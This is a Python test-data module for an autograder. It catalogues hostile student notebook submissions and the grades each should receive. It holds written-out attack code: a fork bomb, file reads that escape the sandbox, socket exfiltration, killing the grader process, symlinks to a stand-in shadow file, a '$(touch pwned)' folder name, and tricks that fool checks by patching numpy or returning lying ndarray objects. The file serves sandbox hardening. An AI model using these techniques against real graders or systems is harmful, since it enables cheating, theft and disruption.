"""The corpus of broken and hostile submissions (test data for tests/test_hostile.py).

Each case is one student who submits one notebook: the reference answers,
except for the attack. ``zero`` lists the graded functions the attack must
cost (0 points), every other function of that notebook must keep full marks;
``reason`` is a phrase the student must find in their feedback.
``ungraded`` cases cannot be graded at all and must be flagged, not shown as
an honest-looking 0. Notebook-level attacks transform the written file.

Attacks on the machine aim only at canaries the test makes in its own
temporary folder (a copy of the repository, a home folder, a listener, a
process standing for the grader): their paths are written ``@@NAME@@`` here
and filled in by the test (:func:`fill`). Each such attack *uses* what it
reaches to answer correctly, so a sandbox that let it through would show as
full marks, and the case would fail.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.course.contract import reference_body
from autograder.course.registry import REPO
from autograder.qa.sample_class import Edit, Raw

I1, I3 = "01_initialization", "03_gradient_checking"
HE, ZEROS, RANDOM = "initialize_parameters_he", "initialize_parameters_zeros", "initialize_parameters_random"
HE_DEF = "def initialize_parameters_he(layers_dims, rng):\n"


def he(body: str, prelude: str = "") -> Raw:
    """The He cell replaced by ``prelude`` and a function with ``body``."""
    indented = "".join("    " + line + "\n" for line in body.strip("\n").splitlines())
    return Raw(prelude + HE_DEF + indented)


@dataclass
class Case:
    name: str
    attack: str  # what the submission does, for the table
    functions: dict = field(default_factory=dict)  # function -> recipe, in the attacked notebook
    stem: str = I1
    zero: tuple[str, ...] = ()
    reason: str = ""
    ungraded: bool = False
    file_hook: Callable[[Path], None] | None = None  # rewrites the written notebook file


def fill(recipe, context: dict[str, str]):
    """``recipe`` with each ``@@NAME@@`` replaced by ``repr(context[NAME])``."""

    def sub(text: str) -> str:
        for name, value in context.items():
            text = text.replace(f"@@{name}@@", repr(value))
        return text

    if isinstance(recipe, Raw):
        return Raw(sub(recipe.source))
    if isinstance(recipe, Edit):
        return Edit(recipe.old, sub(recipe.new), sub(recipe.prelude))
    return recipe


def _stolen_he(read: str) -> Raw:
    """The He cell: ``read`` runs first (it raises when the sandbox holds), then the right answer."""
    body = reference_body(I1, HE).rstrip("\n") + "\n"  # indented as a function body already
    return Raw(HE_DEF + "".join("    " + line + "\n" for line in read.strip("\n").splitlines()) + body)


def _link_to(target_of: Callable[[Path], Path]) -> Callable[[Path], None]:
    """Replace the submitted notebook by a symbolic link to ``target_of(course)``."""

    def hook(path: Path) -> None:
        course = path.parents[3]
        target = target_of(course)
        path.unlink()
        path.symlink_to(target)

    return hook


def _shadow(course: Path) -> Path:
    """A stand-in for /etc/shadow, in the test's own folder."""
    secret = course.parent / "shadow"
    secret.write_text(f"root:{SHADOW_TOKEN}:19000:0:99999:7:::\n")
    return secret


def _link_folder(path: Path) -> None:
    """Replace the assignment folder by a symbolic link to an honest student's."""
    folder = path.parent
    course = path.parents[3]
    for child in folder.iterdir():
        child.unlink()
    folder.rmdir()
    folder.symlink_to(course / "submitted" / "alice" / folder.name)


def _corrupt(path: Path) -> None:
    path.write_text('{"cells": [ {"cell_type": "code", "source": "oops"')


def _nbformat(version: int) -> Callable[[Path], None]:
    def hook(path: Path) -> None:
        data = json.loads(path.read_text())
        data["nbformat"] = version
        path.write_text(json.dumps(data))

    return hook


def _missing(path: Path) -> None:
    path.unlink()


def _huge(path: Path) -> None:
    """50 MB of embedded image output on an experiment cell."""
    data = json.loads(path.read_text())
    blob = "iVBORw0KGgo" + "A" * (50 * 1024 * 1024)
    cell = next(c for c in data["cells"] if c["cell_type"] == "code" and not c.get("metadata", {}).get("nbgrader"))
    cell["outputs"] = [{"output_type": "display_data", "data": {"image/png": blob, "text/plain": "<Figure>"}, "metadata": {}}]
    path.write_text(json.dumps(data))


def _drop_checks(path: Path) -> None:
    data = json.loads(path.read_text())
    data["cells"] = [c for c in data["cells"] if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    path.write_text(json.dumps(data))


def _edit_checks(path: Path) -> None:
    data = json.loads(path.read_text())
    for c in data["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
            c["source"] = "print('all good')  # check replaced by the student"
    path.write_text(json.dumps(data))


SECRET = REPO / "source_solutions" / "initialization.py"
HIDDEN = REPO / "autograder" / "hidden" / "initialization.py"
SHADOW_TOKEN = "SHADOW-CANARY-7f3a"  # must never reach a record or an autograded notebook
LIAR = """class Liar(np.ndarray):
    # Values are ones; every question a check could ask of them says 'all zero, equal'.
    def __eq__(self, other):
        return np.ones(self.shape, bool)
    def __ne__(self, other):
        return np.zeros(self.shape, bool)
    def __array_function__(self, func, types, args, kwargs):
        lies = {np.any: False, np.all: True, np.array_equal: True, np.allclose: True, np.count_nonzero: 0}
        return lies[func] if func in lies else super().__array_function__(func, types, args, kwargs)
"""
SEED_REPLY = (  # a whole, well-formed frame whose result names np.random.seed as a bit generator
    "import json, struct\n"
    "header = json.dumps({'value': {'__dict__': [['ok', True], ['output', ''], ['result', "
    "{'__rng__': {'__dict__': [['bit_generator', 'seed']]}}]]}, 'blobs': 0}).encode()\n"
)

CASES = [
    Case("syntax-error", "a syntax error in the He cell", {HE: Raw(HE_DEF + "    return {\n")}, zero=(HE,), reason="SyntaxError"),
    Case(
        "import-time-error",
        "a cell that raises when it runs",
        {HE: he("return {}", prelude="raise RuntimeError('boom at import')\n")},
        zero=(HE,),
        reason="boom at import",
    ),
    Case("error-in-function", "the function raises", {HE: he("raise ValueError('student bug')")}, zero=(HE,), reason="ValueError"),
    Case("infinite-loop", "an infinite loop in the function", {HE: he("while True:\n    pass")}, zero=(HE,), reason="did not finish"),
    Case(
        "top-level-loop",
        "an infinite loop at the top of a cell",
        {RANDOM: Raw("while True:\n    pass\n")},
        zero=(RANDOM,),
        reason="did not finish",
    ),
    Case(
        "deep-recursion",
        "unbounded recursion",
        {HE: he("def down(n):\n    return down(n + 1)\nreturn down(0)")},
        zero=(HE,),
        reason="RecursionError",
    ),
    Case("memory-bomb", "allocates 16 GB", {HE: he("hog = np.ones(2 ** 31)\nreturn {'W1': hog}")}, zero=(HE,), reason=""),
    Case(
        "prints-100MB",
        "prints 100 MB, then answers correctly",
        {HE: Edit("parameters = {}", "print('x' * 100_000_000)\n    parameters = {}")},
    ),
    Case("sys-exit", "sys.exit() in the function", {HE: he("import sys\nsys.exit(0)")}, zero=(HE,), reason="SystemExit"),
    Case("os-exit", "os._exit() in the function", {HE: he("import os\nos._exit(0)")}, zero=(HE,), reason="stopped"),
    Case("keyboard-interrupt", "raises KeyboardInterrupt", {HE: he("raise KeyboardInterrupt")}, zero=(HE,), reason="KeyboardInterrupt"),
    Case(
        "system-exit-cell",
        "raise SystemExit at the top of a cell",
        {HE: he("return {}", prelude="raise SystemExit(3)\n")},
        zero=(HE,),
        reason="SystemExit",
    ),
    Case(
        "always-equal",
        "returns an object equal to everything",
        {
            HE: he(
                "return Anything()",
                prelude="class Anything(dict):\n    def __eq__(self, other):\n        return True\n    def __getitem__(self, key):\n        return self\n",
            )
        },
        zero=(HE,),
    ),
    Case(
        "lying-ndarray",
        "returns an ndarray subclass whose comparisons always say yes",
        {
            HE: he(
                "return {k: np.zeros((1, 1)).view(Liar) for k in ('W1', 'b1', 'W2', 'b2')}",
                prelude="class Liar(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(np.shape(other), bool)\n    def __array_ufunc__(self, *a, **k):\n        return True\n",
            )
        },
        zero=(HE,),
    ),
    Case(
        "nan",
        "returns NaN weights",
        {HE: Edit("rng.standard_normal((layers_dims[l], fan_in)) * np.sqrt(2.0 / fan_in)", "np.full((layers_dims[l], fan_in), np.nan)")},
        zero=(HE,),
        reason="NaN",
    ),
    Case(
        "wrong-type",
        "returns a list",
        {ZEROS: Raw("def initialize_parameters_zeros(layers_dims):\n    return [0] * len(layers_dims)\n")},
        zero=(ZEROS,),
    ),
    Case(
        "patch-numpy",
        "patches np.allclose/array_equal/isclose, answers wrong",
        {
            HE: he(
                "return initialize_parameters_zeros(layers_dims)",
                prelude="np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n",
            )
        },
        zero=(HE,),
    ),
    Case(
        "patch-checks",
        "replaces the check functions, answers wrong",
        {
            HE: he(
                "return initialize_parameters_zeros(layers_dims)",
                prelude="from dlwork import checks\nchecks.check_initialize_parameters_he = lambda f: None\nchecks.CheckFailure = type('Never', (Exception,), {})\n",
            )
        },
        zero=(HE,),
    ),
    Case("deleted-checks", "deletes every check cell (answers right)", file_hook=_drop_checks, reason="deleted"),
    Case("edited-checks", "replaces every check cell (answers right)", file_hook=_edit_checks, reason="edited"),
    Case(
        "renamed",
        "renames the graded function",
        {HE: Raw(HE_DEF.replace("initialize_parameters_he", "initialize_parameters_He") + "    return {}\n")},
        zero=(HE,),
        reason="not defined",
    ),
    Case(
        "signature",
        "changes the signature",
        {HE: Raw("def initialize_parameters_he(layers_dims):\n    return {}\n")},
        zero=(HE,),
        reason="signature",
    ),
    Case(
        "import-reference",
        "imports source_solutions",
        {HE: he("from source_solutions.initialization import initialize_parameters_he as answer\nreturn answer(layers_dims, rng)")},
        zero=(HE,),
        reason="source_solutions",
    ),
    Case(
        "read-reference",
        "reads the reference and the hidden checks from disk and runs them",
        {
            HE: he(
                f"hidden = open({str(HIDDEN)!r}).read()\nspace = {{}}\nexec(open({str(SECRET)!r}).read(), space)\nreturn space['initialize_parameters_he'](layers_dims, rng)"
            )
        },
        zero=(HE,),
        reason="No such file",
    ),
    Case(
        "write-course",
        "tries to overwrite the gradebook, the course and the repository",
        {
            ZEROS: Edit(
                "parameters = {}",
                "import glob, os\n"
                "    targets = glob.glob('/tmp/pytest-of-*/pytest-*/*/course/gradebook.db') + glob.glob('/tmp/*/course/gradebook.db')\n"
                "    for target in targets[:50] + ["
                + repr(str(REPO / "README.md"))
                + ", "
                + repr(str(REPO / "course" / "gradebook.db"))
                + "]:\n"
                "        try:\n"
                "            open(target, 'w').write('pwned')\n"
                "        except OSError:\n"
                "            pass\n"
                "    parameters = {}",
            )
        },
    ),
    Case(
        "outliving-process",
        "starts processes that outlive the call (a daemon, a double fork)",
        {
            HE: Edit(
                "parameters = {}",
                "import os, subprocess, sys\n"
                "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'], start_new_session=True)\n"
                "    if os.fork() == 0:\n"
                "        os.setsid()\n"
                "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(601)'])\n"
                "    parameters = {}",
            )
        },
    ),
    Case("fork-bomb", "a fork bomb", {HE: he("import os\nwhile True:\n    os.fork()")}, zero=(HE,)),
    Case(
        "protocol-garbage",
        "writes garbage to every open file descriptor",
        {
            HE: he(
                "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'\\x00\\x00\\x00\\x05{\"a\":')\n    except OSError:\n        pass\nreturn {}"
            )
        },
        zero=(HE,),
        reason="garbage",
    ),
    Case(
        "liar-zeros",
        "returns the right keys, shapes and dtype; the values are ones, and ==, np.any, np.array_equal lie",
        {
            ZEROS: Raw(
                LIAR + "def initialize_parameters_zeros(layers_dims):\n"
                "    return {f'{k}{l}': np.ones((layers_dims[l], layers_dims[l - 1] if k == 'W' else 1)).view(Liar)\n"
                "            for l in range(1, len(layers_dims)) for k in 'Wb'}\n"
            )
        },
        zero=(ZEROS,),
        reason="non-zero",
    ),
    Case(
        "repo-copy",
        "reads the reference from a full copy of the repository in another temp folder",
        {HE: _stolen_he("space = {}\nexec(open(@@REPO_COPY@@ + '/source_solutions/initialization.py').read(), space)")},
        zero=(HE,),
        reason="No such file",
    ),
    Case(
        "home-file",
        "reads a file in the grading user's home folder",
        {HE: _stolen_he("open(@@HOME_CANARY@@).read()")},
        zero=(HE,),
        reason="No such file",
    ),
    Case(
        "repo-root-files",
        "reads the repository root: README.md, then the grades.csv export writes there",
        {
            HE: _stolen_he(
                "import os\nopen(@@REPO@@ + '/README.md').read()\nif os.path.exists(@@REPO@@ + '/grades.csv'):\n    open(@@REPO@@ + '/grades.csv').read()"
            )
        },
        zero=(HE,),
        reason="No such file",
    ),
    Case(
        "network",
        "connects to a listener on 127.0.0.1 to send its answers out",
        {HE: _stolen_he("import socket\nsocket.create_connection(('127.0.0.1', @@PORT@@), timeout=3).sendall(b'stolen')")},
        zero=(HE,),
        reason="unreachable",
    ),
    Case(
        "grader-process",
        "reads /proc of a process of the grader's, then kills it",
        {HE: _stolen_he("import os, signal\nopen('/proc/%d/cmdline' % @@GRADER_PID@@).read()\nos.kill(@@GRADER_PID@@, signal.SIGKILL)")},
        zero=(HE,),
        reason="No such file",
    ),
    Case(
        "protocol-rng",
        "replies with a generator whose bit generator is 'seed' (np.random.seed in the old decoder)",
        {
            HE: _stolen_he(
                SEED_REPLY
                + "import sys\nsys.modules['wire'].encode = lambda value, allow_refs=False: struct.pack('>I', len(header)) + header"
            )
        },
        zero=(HE,),
        reason="protocol",
    ),
    Case(
        "protocol-function",
        "replies with a reference to os.system instead of data",
        {
            HE: _stolen_he(
                SEED_REPLY.replace("{'__rng__': {'__dict__': [['bit_generator', 'seed']]}}", "{'__fn__': 'os:system'}")
                + "import sys\nsys.modules['wire'].encode = lambda value, allow_refs=False: struct.pack('>I', len(header)) + header"
            )
        },
        zero=(HE,),
        reason="protocol",
    ),
    Case(
        "delegate-dropout",
        "delegates backward_propagation_with_dropout to a dropout backward pass of the visible checks",
        {
            "backward_propagation_with_dropout": Raw(
                "def backward_propagation_with_dropout(X, Y, cache, keep_prob):\n"
                "    params = {k: cache[k] for k in ('W1', 'b1', 'W2', 'b2', 'W3', 'b3')}\n"
                "    return checks._dropout_case(X, Y, params, cache['D1'], cache['D2'], keep_prob)[1]\n"
            )
        },
        stem="02_regularization",
        zero=("backward_propagation_with_dropout",),
    ),
    Case(
        "symlink-solutions",
        "the submitted notebook is a symbolic link to the course's source notebook (the solutions)",
        file_hook=_link_to(lambda course: course / "source" / I1 / f"{I1}.ipynb"),
        ungraded=True,
        reason="symbolic link",
    ),
    Case(
        "symlink-shadow",
        "the submitted notebook is a symbolic link to /etc/shadow (a stand-in in the test's folder)",
        file_hook=_link_to(_shadow),
        ungraded=True,
        reason="symbolic link",
    ),
    Case(
        "symlink-folder",
        "the assignment folder is a symbolic link to another student's",
        file_hook=_link_folder,
        ungraded=True,
        reason="symbolic link",
    ),
    Case("dot..dot", "a student folder name with '..' in it (answers right)"),
    Case("...", "a student folder named '...' (answers right)"),
    Case("odd name; $(touch pwned) <b>x &amp; 'quoted'", "shell and HTML characters in the student folder name (answers right)"),
    Case("ünïcödé-名前", "a non-ASCII student folder name (answers right)"),
    Case("corrupt-json", "the notebook is not valid JSON", file_hook=_corrupt, ungraded=True, reason="could not be read"),
    Case("old-nbformat", "claims nbformat 3", file_hook=_nbformat(3), ungraded=True, reason="could not be read"),
    Case("unknown-nbformat", "claims nbformat 99", file_hook=_nbformat(99), ungraded=True, reason="could not be read"),
    Case("missing-notebook", "an assignment folder without the notebook", file_hook=_missing, ungraded=True, reason="missing"),
    Case("huge-notebook", "50 MB of embedded outputs (answers right)", file_hook=_huge),
    Case(
        "grad-check-loop",
        "an infinite loop in gradient_check_n",
        {
            "gradient_check_n": Raw(
                "def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7, cost_function=None):\n    while True:\n        pass\n"
            )
        },
        stem=I3,
        zero=("gradient_check_n",),
        reason="did not finish",
    ),
]
